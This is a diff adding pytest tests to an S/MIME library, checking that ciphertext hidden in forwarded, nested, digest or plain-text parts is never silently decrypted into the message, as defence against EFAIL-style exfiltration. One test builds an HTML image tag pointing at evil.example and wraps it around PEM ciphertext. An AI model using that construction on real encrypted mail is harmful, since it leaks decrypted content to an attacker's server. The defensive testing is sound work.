@@ -5,6 +5,7 @@ RFC 8551, 6: "direct exfiltration" puts an encrypted part between parts of the a
 """
 
 import base64
+from collections.abc import Callable
 
 import pytest
 
@@ -62,6 +63,53 @@ def test_an_encrypted_part_beside_others_is_never_opened(subtype: str, signed: b
         smimekit.decrypt(mail, [bob()])
     with pytest.raises(smimekit.NotSigned):
         smimekit.verify(mail, trust(), keys=[bob()])
+
+
+@pytest.mark.parametrize(
+    "hide",
+    [lambda part: b"Content-Type: message/rfc822\r\n\r\nFrom: a@b.example\r\n" + part,
+     lambda part: multipart("related", part, sender=None).replace(b"mix", b"inner"),
+     lambda part: b'Content-Type: multipart/digest; boundary="d"\r\n\r\n--d\r\n\r\n'
+                  + part + b"\r\n--d--",
+     lambda part: part.replace(b"application/pkcs7-mime", b"application/octet-stream")],
+    ids=["forwarded", "nested", "digest", "octet-stream"],
+)  # fmt: skip
+def test_wherever_it_hides(hide: Callable[[bytes], bytes]) -> None:
+    """RFC 9787, 6.2.2: an errant encryption never makes the message an encrypted one, and what
+    comes out of it is a MIME tree of its own; here it stays closed until somebody opens it.
+    """
+    mail = multipart("mixed", IMG, hide(as_part(encrypted())), b'Content-Type: text/html\r\n\r\n">')
+    with smimekit.open(mail, keys=[bob()], trust=trust()) as opened:
+        assert opened.envelope == ()
+        [errant] = opened.errant
+        assert errant.kind == "encrypted"
+        assert b"The plan" not in opened.payload(require=Protection.NONE).bytes()
+        assert smimekit.decrypt(errant.span, [bob()]).bytes() == entity()
+
+
+def test_two_secrets_are_not_put_together() -> None:
+    """RFC 9787, 6.2.2 (multipart oracles): each is opened by itself, as a tree of its own, and
+    has no parts but its own.
+    """
+    halves = [as_part(smimekit.encrypt(draft(text=text), [bob().certificate])) for text in "ab"]
+    mail = multipart("mixed", IMG, *halves, entity("end"))
+    with smimekit.open(mail, keys=[bob()], trust=trust()) as opened:
+        assert [each.name for each in opened.errant] == ["2", "3"]
+        found = [smimekit.decrypt(each.span, [bob()]).bytes() for each in opened.errant]
+        assert found == [entity("a"), entity("b")]
+
+
+def test_text_around_ciphertext_in_one_part() -> None:
+    """RFC 9787, 6.2.3.2: what is not at a MIME boundary is not decrypted."""
+    pem = b"-----BEGIN PKCS7-----\n" + encrypted().partition(b"\r\n\r\n")[2]
+    pem += b"-----END PKCS7-----\n"
+    for before, after in ((b"", b'">'), (b'<img src="http://evil.example/', b'">'), (b"", b"")):
+        mail = b"From: m@evil.example\r\nContent-Type: text/html\r\n\r\n" + before + pem + after
+        with smimekit.open(mail, keys=[bob()], trust=trust()) as opened:
+            assert opened.envelope == ()
+            assert opened.errant == ()
+        with pytest.raises(smimekit.InsufficientProtection):
+            smimekit.decrypt(mail, [bob()])
 
 
 def test_a_signed_wrapper_does_not_open_it_either() -> None:
